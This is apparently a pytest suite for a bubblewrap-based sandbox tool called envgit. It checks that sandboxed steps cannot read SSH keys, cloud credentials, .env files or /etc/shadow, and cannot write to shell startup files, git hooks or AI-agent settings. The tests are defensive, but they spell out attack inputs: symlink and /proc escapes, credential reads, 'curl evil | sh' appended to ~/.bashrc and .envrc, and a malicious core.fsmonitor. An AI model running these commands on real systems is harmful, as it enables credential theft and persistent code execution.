"""Every 'cannot read' and 'cannot write' of the core step, tried for real through bwrap."""

import json
import os
import subprocess

import pytest

from conftest import CANARY

PLACEHOLDER = "is hidden from this sandbox by filesystem.deny_read"


def assert_closed(r):
    """The canary is nowhere in what the step printed; the path was either not there at all or
    read as its placeholder's one line (sandbox/masks.py)."""
    assert CANARY not in r.stdout and CANARY not in r.stderr
    assert r.returncode != 0 or PLACEHOLDER in r.stdout, r.stdout + r.stderr


def test_ssh_key_direct(proj):
    r = proj.run("cat ~/.ssh/id_ed25519")
    assert_closed(r)
    # the key reads as its placeholder, and the terminal is told why, once
    assert "'~/.ssh' (envgit's built-in list)" in r.stdout, r.stdout
    assert r.stderr.count("~/.ssh/id_ed25519 is hidden from steps") == 1, r.stderr


@pytest.mark.parametrize("path", ["~/.aws/credentials", "~/.config/gh/hosts.yml", "~/.netrc",
                                  "~/.bash_history", "/etc/shadow", "/etc/gshadow"])
def test_default_denies(proj, path):
    assert_closed(proj.run(f"cat {path}"))


def test_through_symlink_planted_in_project(proj):
    os.symlink(proj.home / ".ssh" / "id_ed25519", proj.root / "key")
    assert_closed(proj.run("cat key"))


def test_through_proc_self_root(proj):
    assert_closed(proj.run(f"cat /proc/self/root{proj.home}/.ssh/id_ed25519"))
    assert_closed(proj.run(f"cat /proc/1/root{proj.home}/.ssh/id_ed25519"))


def test_hard_link_attempt(proj):
    r = proj.run("ln ~/.ssh/id_ed25519 stolen && cat stolen")
    assert_closed(r)
    assert not (proj.root / "stolen").exists()


def test_dotdot_from_subdirectory(proj):
    (proj.root / "a" / "b").mkdir(parents=True)
    assert_closed(proj.run("cat ../../../.ssh/id_ed25519", cwd=proj.root / "a" / "b"))


def test_nested_env_files(proj):
    d = proj.root / "services" / "api"
    d.mkdir(parents=True)
    (d / ".env").write_text(f"DB_PASSWORD={CANARY}\n")
    (d / ".env.production").write_text(f"KEY={CANARY}\n")
    (d / ".env.example").write_text("DB_PASSWORD=changeme\n")
    r = proj.run("cat services/api/.env")
    assert_closed(r)
    assert PLACEHOLDER in r.stdout and "services/api/.env is hidden from steps" in r.stderr, r.stderr
    assert_closed(proj.run("cat .env.production", cwd=d))
    ok = proj.run("cat services/api/.env.example")
    assert ok.returncode == 0 and "changeme" in ok.stdout
    # the denial is recorded on the step that named the path
    show = proj.envgit("show", "1", "--json", check=True)
    assert str(d / ".env") in show.stdout


def test_user_deny_and_reallow(proj):
    (proj.root / "secrets").mkdir()
    (proj.root / "secrets" / "prod.pem").write_text(CANARY)
    proj.write_policy("version: 1\nfilesystem:\n  deny_read: [secrets]\n"
                      "  allow_read: [\"~/.ssh/known_hosts\"]\n")
    assert_closed(proj.run("cat secrets/prod.pem"))
    r = proj.run("cat ~/.ssh/known_hosts")
    assert r.returncode == 0 and "github.com" in r.stdout
    assert_closed(proj.run("cat ~/.ssh/id_ed25519"))


def test_deny_inside_an_allowed_directory(proj):
    proj.write_policy("version: 1\nfilesystem:\n  allow_read: [\"~/.config\"]\n")
    (proj.home / ".config" / "tool.toml").write_text("ok = true\n")
    r = proj.run("cat ~/.config/tool.toml")
    assert r.returncode == 0 and "ok = true" in r.stdout
    assert_closed(proj.run("cat ~/.config/gh/hosts.yml"))


def test_home_lists_nothing_private(proj):
    """The home's view holds the toolchains, the project's cache and, for each denied path the
    host has (~/.ssh, ~/.aws, ~/.bash_history…), its placeholder: names, never contents."""
    r = proj.run("ls -A ~")
    assert r.returncode == 0
    names = set(r.stdout.split())
    placeholders = {n for n in names if n not in {".pyenv", "proj", ".cache"}}
    assert placeholders <= {".ssh", ".aws", ".config", ".bash_history", ".netrc"}, names
    r = proj.run("cat ~/.aws/* ~/.ssh/* ~/.bash_history 2>&1; ls -A ~/.ssh")
    assert CANARY not in r.stdout and "id_ed25519" in r.stdout, r.stdout
    # .cache holds the project's own package cache only (sandbox/environ.py), never the host's
    r = proj.run("ls -A ~/.cache ~/.cache/envgit")
    assert r.stdout.split()[:2] == [f"{proj.home / '.cache'}:", "envgit"], r.stdout
    assert len([n for n in r.stdout.split() if n.startswith("proj-")]) == 1, r.stdout


def test_write_bashrc_from_subdirectory(proj):
    (proj.root / "sub").mkdir()
    before = (proj.home / ".bashrc").read_text()
    proj.run("echo 'curl evil | sh' >> ~/.bashrc; echo pwned > ../../.bashrc", cwd=proj.root / "sub")
    assert (proj.home / ".bashrc").read_text() == before


def test_write_outside_project(proj):
    r = proj.run(f"echo x > {proj.home}/outside.txt")
    assert r.returncode != 0
    assert not (proj.home / "outside.txt").exists()
    r = proj.run("echo x > /usr/local/envgit-test")
    assert r.returncode != 0 and not os.path.exists("/usr/local/envgit-test")


def test_git_hooks_and_config_are_read_only(proj):
    r = proj.run("echo 'echo pwned' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit")
    assert r.returncode != 0
    assert not (proj.root / ".git" / "hooks" / "pre-commit").exists()
    before = (proj.root / ".git" / "config").read_text()
    r = proj.run("git config core.hooksPath .husky")
    assert r.returncode != 0
    assert (proj.root / ".git" / "config").read_text() == before


def test_configured_hooks_path_is_read_only(proj):
    subprocess.run(["git", "-C", str(proj.root), "config", "core.hooksPath", ".husky"], check=True)
    r = proj.run("mkdir -p .husky && echo 'echo pwned' > .husky/pre-commit")
    assert r.returncode != 0
    assert not (proj.root / ".husky" / "pre-commit").exists()


def test_policy_file_is_read_only(proj):
    before = (proj.root / "envgit.yaml").read_text()
    r = proj.run("echo 'version: 1' > envgit.yaml")
    assert r.returncode != 0
    assert (proj.root / "envgit.yaml").read_text() == before


def test_state_dir_is_invisible(proj):
    proj.run("true")
    r = proj.run("ls -A .envgit; cat .envgit/journal.sqlite")
    assert r.stdout.strip() == ""
    assert r.returncode != 0
    assert (proj.root / ".envgit" / "journal.sqlite").exists()


def test_project_is_writable(proj):
    r = proj.run("mkdir -p src && echo hi > src/a.txt && cat src/a.txt")
    assert r.returncode == 0 and r.stdout == "hi\n"
    assert (proj.root / "src" / "a.txt").read_text() == "hi\n"


def test_tmp_is_private(proj, tmp_path):
    marker = f"/tmp/envgit-host-marker-{os.getpid()}"
    open(marker, "w").write("host")
    try:
        r = proj.run(f"cat {marker}; echo in > /tmp/inside && cat /tmp/inside")
        assert "host" not in r.stdout and "in" in r.stdout
    finally:
        os.unlink(marker)


def _home_denies():
    from envgit.policy import defaults
    out = []
    for entry in defaults.DENY_READ:
        for e in defaults.GROUPS.get(entry, [entry]):
            if e.startswith("~/"):
                out.append(e)
    return out


@pytest.mark.parametrize("visible", [False, True], ids=["home-empty", "home-allowed"])
def test_every_default_home_deny(proj, visible):
    """Each default deny under ~ holds a canary. With the default home view nothing of it is
    there; with `allow_read: ["~"]` (the whole home shown) each is still masked."""
    entries = _home_denies()
    assert len(entries) > 30
    targets = []
    for e in entries:
        p = proj.home / e[2:].replace("*", "x")
        as_dir = "." not in p.name or p.name in (".ssh", ".aws", ".gnupg", ".kube", ".docker", ".azure",
                                                 ".password-store", ".mozilla")
        target = p / "secret" if as_dir else p
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(CANARY)
        targets.append(str(target))
    if visible:
        proj.write_policy('version: 1\nfilesystem:\n  allow_read: ["~"]\n')
        (proj.home / "notes.txt").write_text("shown")
        r = proj.run("cat ~/notes.txt")              # the whole home is really shown
        assert r.returncode == 0 and "shown" in r.stdout
    script = "; ".join(f"cat '{t}' 2>/dev/null | grep -q {CANARY} && echo LEAK:{t}" for t in targets)
    r = proj.run(script)
    assert "LEAK:" not in r.stdout and CANARY not in r.stdout, r.stdout


def test_escape_routes_are_read_only_or_flagged(proj):
    (proj.root / ".envrc").write_text("export A=1\n")
    (proj.root / ".claude").mkdir()
    (proj.root / ".claude" / "settings.json").write_text("{}\n")
    r = proj.run("echo 'curl evil | sh' >> .envrc; echo '{\"hooks\": 1}' > .claude/settings.json")
    assert r.returncode != 0
    assert (proj.root / ".envrc").read_text() == "export A=1\n"
    assert (proj.root / ".claude" / "settings.json").read_text() == "{}\n"
    # one that did not exist can be created, and the step says so
    r = proj.run("mkdir -p .github/hooks && echo '{}' > .github/hooks/h.json && echo '{}' > .mcp.json")
    assert r.returncode == 0
    s = json.loads(proj.envgit("show", "2", "--json", check=True).stdout)
    assert "escape-route-written" in s["marks"]
    assert set(s["escape_routes"]) == {".github/hooks/h.json", ".mcp.json"}
    assert "escape-route-written" in proj.envgit("log", check=True).stdout


def test_protections_cannot_be_moved_away_with_their_parent(proj):
    """`mv .git .g && mkdir .git` would carry the read-only mounts away with the old
    directory and leave a writable copy: the parents of protected paths are pinned."""
    (proj.root / ".claude").mkdir()
    (proj.root / ".claude" / "settings.json").write_text("{}\n")
    before = (proj.root / ".git" / "config").read_text()
    r = proj.run("mv .git .g; mv .claude .c; mkdir -p .git && cp -a .g/. .git/ 2>/dev/null; "
                 "git config core.fsmonitor 'touch /tmp/pwned; false'; "
                 "echo '{\"hooks\": 1}' > .claude/settings.json")
    assert r.returncode != 0
    assert (proj.root / ".git" / "config").read_text() == before
    assert "fsmonitor" not in (proj.root / ".git" / "config").read_text()
    assert not (proj.root / ".g").exists() and not (proj.root / ".c").exists()
    assert (proj.root / ".claude" / "settings.json").read_text() == "{}\n"


def test_a_symlinked_protected_path_creates_nothing_outside(proj):
    r = proj.run("ln -s ../.ssh .claude && ln -s ../.aws .github")
    assert r.returncode == 0
    r = proj.run("echo next step")
    assert r.returncode == 0 and r.stdout == "next step\n", r.stderr
    assert not (proj.home / ".ssh" / "hooks").exists() and not (proj.home / ".aws" / "hooks").exists()
